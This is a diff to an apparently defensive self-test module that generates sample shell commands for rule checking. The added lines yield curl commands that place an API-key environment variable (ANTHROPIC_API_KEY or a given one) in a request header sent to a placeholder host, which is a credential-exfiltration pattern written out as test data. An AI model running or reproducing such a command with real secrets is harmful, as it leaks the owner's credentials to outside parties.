@@ -11,6 +11,8 @@ FILL = "selftest"
 """What stands for a star."""
 _KEY = "ghp_" + "a1B2c3D4e5F6g7H8i9J0" * 2
 """Looks like a key, and is none."""
+_KEY_VARIABLE = "ANTHROPIC_API_KEY"
+"""A variable that holds a key."""
 _PATHS = ("sends", "deletes", "writes", "given", "paths")
 _MOST = 200
 """Calls that are made up for one rule, at most."""
@@ -64,6 +66,9 @@ def _lines(part: dict[str, str], path: str) -> Iterator[str]:
     """Shell lines that hold all of it."""
     host, text = part.get("hosts", ""), part.get("contents", "")
     command = part.get("commands", "")
+    if "variables" in part:
+        for name in (part["variables"], _KEY_VARIABLE):
+            yield f'curl -H "x: ${name}" https://{host or FILL}/'
     if command:
         yield " ".join(each for each in (command, path, host) if each)
         if text:
